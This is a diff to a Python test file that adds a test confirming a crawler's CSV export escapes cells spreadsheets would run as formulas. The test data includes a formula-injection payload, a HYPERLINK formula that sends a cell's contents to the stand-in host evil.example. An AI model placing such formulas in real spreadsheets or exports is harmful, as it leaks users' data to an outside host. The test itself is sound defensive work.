@@ -109,4 +109,23 @@ def test_cli_export_and_stats(tmp_path: Path, capsys: pytest.CaptureFixture[str]
     assert st["checks_pass_share"] == pytest.approx(2 / 3, abs=1e-3)
     assert main(["stats", "--store", str(db)]) == 0
     assert "by province" in capsys.readouterr().out
-    assert main(["stats", "--store", "mysql://nope"]) == 1
+    assert main(["stats", "--store", "mysql://nope"]) == 1  # configuration error
+
+
+def test_csv_cells_that_spreadsheets_would_run_as_formulas_are_escaped(tmp_path: Path) -> None:
+    import csv
+
+    from crawler.export import csv_safe
+
+    assert [csv_safe(v) for v in ("=1+1", "+1", "-x", "@SUM(A1)", "\tx", "正常", -3, 1.5, None)] == [
+        "'=1+1", "'+1", "'-x", "'@SUM(A1)", "'\tx", "正常", -3, 1.5, None]
+    url = f"sqlite:///{tmp_path / 'x.db'}"
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    with open_store(url, archive_dir=str(tmp_path / "arc")) as s:
+        s.save(make_item("http://js/a.html", BENCH.base_report(1, 2023), agency=hostile, tables=CELLS_A))
+        export(s, "csv", tmp_path / "r.csv")
+    with (tmp_path / "r.csv").open(encoding="utf-8", newline="") as fh:
+        row = next(csv.DictReader(fh))
+    assert row["agency"] == "'" + hostile
+    assert not any(v.startswith(("=", "+", "@")) for v in row.values())
+    assert row["requests.new.total"] == "12"  # numbers are not touched
